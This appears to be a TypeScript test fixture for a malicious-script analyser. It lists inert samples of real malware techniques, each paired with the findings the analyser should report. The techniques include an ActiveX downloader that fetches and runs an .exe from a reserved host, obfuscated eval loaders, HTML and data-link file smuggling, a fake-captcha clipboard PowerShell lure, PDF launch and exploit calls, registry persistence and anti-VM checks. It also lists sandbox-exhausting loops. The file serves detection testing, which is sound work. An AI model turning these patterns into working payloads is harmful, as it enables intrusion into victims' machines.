/** Generated inert scripts, one per technique. Their hosts have reserved names, and they do no harm anywhere. */
import type { BehaviourRuleId } from '../../../lib/engines/script/findings.ts';
import { AUTOMATION_SCRIPTS } from './automation.ts';

export interface HostileScript {
  readonly technique: string;
  readonly name: string;
  readonly content: string | Uint8Array;
  readonly level: 'malicious' | 'suspicious';
  /** Findings that must be among those of the report. */
  readonly finds: readonly BehaviourRuleId[];
}

const RUN = "new ActiveXObject('WScript.Shell').Run('cmd.exe /c echo inert', 0, false);";
const codes = (text: string) => [...text].map((char) => char.charCodeAt(0)).join(',');
const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');
const programBytes = base64('MZ inert, assembled for a test');

const pdfWith = (code: string, more = '') => `%PDF-1.7
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${code.replace(/[\\()]/g, '\\$&')}) >> ${more} >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
trailer << /Root 1 0 R >>
%%EOF
`;

export const HOSTILE_SCRIPTS: readonly HostileScript[] = [
  {
    technique: 'downloader with XMLHTTP and ADODB.Stream',
    name: 'invoice.js',
    content: `var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://files.example/a.exe', false); x.send();
      if (x.Status == 200) { var s = WScript.CreateObject('ADODB.Stream'); s.Type = 1; s.open(); s.Write(x.ResponseBody);
      var p = WScript.CreateObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%') + '\\\\a.exe'; s.SaveToFile(p, 2);
      new ActiveXObject('WScript.Shell').run('"' + p + '"', 0); }`,
    level: 'malicious',
    finds: ['behaviour-runs-download', 'behaviour-stores-download', 'behaviour-contacts-host'],
  },
  {
    technique: 'dropper that writes a script and runs it',
    name: 'order.js',
    content: `var f = new ActiveXObject('Scripting.FileSystemObject'); var p = f.GetSpecialFolder(2) + '\\\\u.vbs';
      var t = f.CreateTextFile(p, true); t.WriteLine('WScript.Echo 1'); t.Close();
      GetObject('winmgmts:root\\\\cimv2:Win32_Process').Create('wscript.exe ' + p);`,
    level: 'malicious',
    finds: ['behaviour-runs-dropped-file', 'behaviour-writes-program', 'behaviour-starts-interpreter'],
  },
  {
    technique: 'eval of character codes',
    name: 'codes.js',
    content: `eval(String.fromCharCode(${codes(RUN)}))`,
    level: 'malicious',
    finds: ['behaviour-decoded-code', 'behaviour-starts-interpreter'],
  },
  {
    technique: 'base64 by the XML parser',
    name: 'xml.js',
    content: `var e = new ActiveXObject('Microsoft.XMLDOM').createElement('a'); e.dataType = 'bin.base64'; e.text = '${base64(RUN)}';
      var s = new ActiveXObject('ADODB.Stream'); s.Type = 1; s.Open(); s.Write(e.nodeTypedValue); s.Position = 0; s.Type = 2;
      s.Charset = 'us-ascii'; this['ev' + 'al'](s.ReadText());`,
    level: 'malicious',
    finds: ['behaviour-decoded-code', 'behaviour-starts-interpreter'],
  },
  {
    technique: 'split, join and reverse, with Function',
    name: 'split.js',
    content: `var q = ${JSON.stringify([...RUN].reverse().join('#'))}; [].filter['constr' + 'uctor'](q.split('#').reverse().join(''))();`,
    level: 'malicious',
    finds: ['behaviour-decoded-code', 'behaviour-starts-interpreter'],
  },
  {
    technique: 'rotated array of names',
    name: 'array.js',
    content: `var n = ['cmd.exe /c echo inert', 'WScript.Shell', 'Run']; (function (a, k) { while (k--) a.push(a.shift()); })(n, 4);
      function g(i) { return n[i - 7]; } var o = new ActiveXObject(g(7)); o[g(8)](g(9), 0);`,
    level: 'malicious',
    finds: ['behaviour-starts-interpreter'],
  },
  {
    technique: 'eval that uses variables around it',
    name: 'scope.js',
    content: `(function () { var name = 'WScript.Shell'; var c = 'new ActiveXObject(na' + 'me).Run("rundll32.exe inert.dll,Start")';
      eval(c); })()`,
    level: 'malicious',
    finds: ['behaviour-decoded-code', 'behaviour-starts-interpreter'],
  },
  {
    technique: 'conditional compilation and functions of members',
    name: 'dialect.js',
    content: `var api = {}; function api.go(c) { new ActiveXObject('WScript.Shell').Run(c); }
      /*@cc_on @if (@_win32 || @_win64) api.go('mshta.exe http://a.test/x'); @else WScript.Quit(); @end @*/`,
    level: 'malicious',
    finds: ['behaviour-starts-interpreter'],
  },
  {
    technique: 'Windows script file with jobs',
    name: 'report.wsf',
    content: `<package><job id="one"><script language="VBScript">MsgBox 1</script><script language="JScript"><![CDATA[${RUN}]]></script></job></package>`,
    level: 'malicious',
    finds: ['behaviour-starts-interpreter', 'behaviour-incomplete'],
  },
  {
    technique: 'HTML application',
    name: 'form.hta',
    content: `<html><hta:application id="a" showintaskbar="no"/><body><script language="JScript">${RUN} window.close();</script></body></html>`,
    level: 'malicious',
    finds: ['behaviour-starts-interpreter'],
  },
  {
    technique: 'smuggling with a Blob',
    name: 'voicemail.html',
    content: `<html><body onload="go()"><span id="d" data-x="${programBytes}"></span><script>function go() { var b = atob(document.getElementById('d').dataset.x);
      var v = new Uint8Array(b.length); for (var i = 0; i < b.length; i++) v[i] = b.charCodeAt(i);
      var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([v])); a.download = 'scan.exe'; document.body.appendChild(a); a.click(); }</script></body></html>`,
    level: 'malicious',
    finds: ['behaviour-smuggled-program'],
  },
  {
    technique: 'smuggling with a data: link on a click',
    name: 'secure.html',
    content: `<a id="l" download="statement.iso" href="data:application/octet-stream;base64,${base64('CD001 inert')}">open</a>
      <script>document.addEventListener('click', function () { document.getElementById('l').click(); });</script>`,
    level: 'malicious',
    finds: ['behaviour-smuggled-program'],
  },
  {
    technique: 'page written in layers that leads elsewhere',
    name: 'login.html',
    content: `<script>document.write(unescape('${escape('<script>document.write(atob("')}${base64('<script>setTimeout(function(){location.href="https://login.example/x"},90000)</script>')}${escape('"))</scr')}ipt%3E'))</script>`,
    level: 'suspicious',
    finds: ['behaviour-page-decoded-code', 'behaviour-redirect'],
  },
  {
    technique: 'script in a drawing',
    name: 'logo.svg',
    content: `<svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript"><![CDATA[window.location = 'https://a' + '.example/' + 'x';]]></script></svg>`,
    level: 'suspicious',
    finds: ['behaviour-redirect'],
  },
  {
    technique: 'command on the clipboard',
    name: 'captcha.html',
    content: `<button onclick="navigator.clipboard.writeText('powershell -w hidden -c echo inert')">I am human</button>`,
    level: 'malicious',
    finds: ['behaviour-clipboard-command'],
  },
  {
    technique: 'document that opens a URL',
    name: 'bill.pdf',
    content: pdfWith("app.launchURL('http://pay.example/' + 'x', true);"),
    level: 'suspicious',
    finds: ['behaviour-pdf-opens-url'],
  },
  {
    technique: 'document that runs its attachment',
    name: 'contract.pdf',
    content: pdfWith("this.exportDataObject({ cName: 'a.docm', nLaunch: 2 });"),
    level: 'malicious',
    finds: ['behaviour-pdf-runs-attachment'],
  },
  {
    technique: 'document that calls an exploit, its code in the title',
    name: 'title.pdf',
    content: pdfWith('eval(this.info.title)', '').replace(
      'trailer <<',
      '4 0 obj << /Title (util.printf\\("%45000f", 1\\)) >> endobj\ntrailer << /Info 4 0 R',
    ),
    level: 'malicious',
    finds: ['behaviour-exploit-call', 'behaviour-decoded-code'],
  },
  {
    technique: 'persistence in the registry',
    name: 'start.js',
    content: `new ActiveXObject('WScript.Shell').RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd', 'inert', 'REG_SZ');`,
    level: 'malicious',
    finds: ['behaviour-persistence'],
  },
  {
    technique: 'questions about the machine before anything else',
    name: 'ask.js',
    content: `var w = GetObject('winmgmts:\\\\\\\\.\\\\root\\\\cimv2'); var e = new Enumerator(w.ExecQuery('SELECT * FROM Win32_ComputerSystem'));
      var ok = true; for (; !e.atEnd(); e.moveNext()) if (/vmware|virtualbox/i.test(e.item().Model)) ok = false;
      var t = new Date().getTime(); WScript.Sleep(120000); if (new Date().getTime() - t < 110000) ok = false; if (ok) { ${RUN} }`,
    level: 'malicious',
    finds: ['behaviour-evades-analysis', 'behaviour-long-delay', 'behaviour-starts-interpreter'],
  },
  {
    technique: 'script that deletes itself',
    name: 'gone.js',
    content: `new ActiveXObject('Scripting.FileSystemObject').DeleteFile(WScript.ScriptFullName);`,
    level: 'suspicious',
    finds: ['behaviour-deletes-itself'],
  },
  ...AUTOMATION_SCRIPTS,
];

/** Scripts that try to bring the sandbox down. Each ends in a report that names the limit. */
export const BOMBS: readonly (readonly [name: string, content: string, limit: RegExp])[] = [
  ['endless loop', 'for (;;) {}', /steps|time/],
  ['endless loop that catches everything', 'for (;;) { try { throw 1 } catch (e) {} }', /steps|time/],
  ['deep recursion', 'function f() { return f() + 1 } f();', /stack/],
  ['deep nesting', `eval(new Array(60000).join('(') + '1');`, /stack/],
  ['giant string', `var s = 'abcdefgh'; while (true) s += s;`, /memory/],
  ['giant repetition', `'a'.repeat(1 << 29)`, /memory/],
  ['giant array', `new Array(1e9).join('a')`, /memory|time/],
  ['events without end', `while (true) WScript.Echo('x')`, /events|steps|time/],
  [
    'promises without end',
    'function f() { return Promise.resolve().then(f).then(f) } f()',
    /promises|memory|stack|steps|time/,
  ],
  ['waits for nothing without end', '(async () => { for (;;) await 0 })()', /promises|steps|time/],
  ['layers without end', `function f(n) { eval('f(' + (n + 1) + ')') } f(0)`, /layers|stack/],
];
